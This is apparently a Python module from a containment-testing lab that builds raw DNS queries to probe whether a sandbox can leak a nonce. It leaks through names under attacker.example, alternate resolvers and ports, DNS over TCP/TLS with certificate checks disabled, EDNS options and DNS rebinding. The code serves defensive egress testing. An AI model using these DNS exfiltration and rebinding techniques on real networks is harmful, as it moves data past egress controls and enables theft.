"""Attempts through DNS: other resolvers, other ports, and names that carry data out through the permitted resolver."""

from __future__ import annotations

import contextlib
import socket
import struct

from containment_lab.attacks.task import Attempt, Technique, close_after_delivery, make_trusting_context

_TYPES = {
    "A": 1,
    "NS": 2,
    "CNAME": 5,
    "NULL": 10,
    "PTR": 12,
    "MX": 15,
    "TXT": 16,
    "AAAA": 28,
    "SRV": 33,
    "SVCB": 64,
    "HTTPS": 65,
    "ANY": 255,
}
_EDNS = {"client-subnet": 8, "padding": 12, "of-its-own": 65001}


def build_query(name: str, qtype: str = "A", qclass: int = 1, option: tuple[int, bytes] | None = None) -> bytes:
    """Return a DNS query.

    Args:
        name: The name.
        qtype: The record type.
        qclass: The class.
        option: An EDNS option's number and bytes.
    """
    labels = b"".join(bytes([len(label)]) + label.encode("latin-1") for label in name.split("."))
    more = b"" if option is None else struct.pack("!BHHIHHH", 0, 41, 1232, 0, 4 + len(option[1]), option[0], len(option[1])) + option[1]
    head = b"\x5a\x3c\x01\x00" + struct.pack("!HHHH", 1, 0, 0, 1 if more else 0)
    return head + labels + b"\0" + struct.pack("!HH", _TYPES[qtype], qclass) + more


def send_query(attempt: Attempt) -> None:
    """Query a server for a name that contains the nonce: over UDP, TCP or TLS, at any port."""
    name = attempt.get_option("name", "NONCE.attacker.example")
    at = attempt.get_option("at", "attacker")
    attempt.options["to"] = {"resolver": attempt.resolver, "amazon": "169.254.169.253"}.get(at, at)
    if at in ("resolver", "amazon"):
        attempt.note_query(name)
    else:
        attempt.marks.append(name.lower())
    option = (_EDNS[attempt.get_option("edns")], attempt.nonce.encode()) if "edns" in attempt.options else None
    data = build_query(name, attempt.get_option("type", "A"), attempt.parse_number("class", 1), option)
    port = attempt.parse_number("port", 53)
    if attempt.get_option("via", "udp") == "udp":
        where = attempt.resolve_target()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
            handle.settimeout(1.5)
            for _ in range(2):
                handle.sendto(data, (where, port))
                with contextlib.suppress(TimeoutError):
                    handle.recv(4096)
                    return
        return
    with close_after_delivery(attempt.connect(port)) as handle:
        whole = struct.pack("!H", len(data)) + data
        if "after" in attempt.options:
            before = build_query(attempt.get_option("after"))
            whole = struct.pack("!H", len(before)) + before + whole
        if attempt.get_option("via") == "tls":
            attempt.marks.append(attempt.get_option("sni").lower())
            with make_trusting_context().wrap_socket(handle, server_hostname=attempt.get_option("sni") or None) as inside:
                inside.sendall(whole)
                inside.settimeout(1.5)
                with contextlib.suppress(OSError):
                    inside.recv(4096)
                return
        handle.sendall(whole)
        with contextlib.suppress(OSError):
            handle.recv(4096)


def rebind_name(attempt: Attempt) -> None:
    """Resolve a public name to a private address (DNS rebinding), and send the nonce to that address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        handle.settimeout(3)
        attempt.note_query("rebind.attacker.example")
        handle.sendto(build_query("rebind.attacker.example"), (attempt.resolver, 53))
        reply = handle.recv(4096)
    if len(reply) < 16 or struct.unpack_from("!H", reply, 6)[0] == 0:
        raise ConnectionError("the answer has no address")
    attempt.options["to"] = socket.inet_ntoa(reply[-4:])
    with close_after_delivery(attempt.connect(443)) as handle:
        handle.sendall(attempt.nonce.encode())


TECHNIQUES: dict[str, Technique] = {"dns": send_query, "rebind": rebind_name}
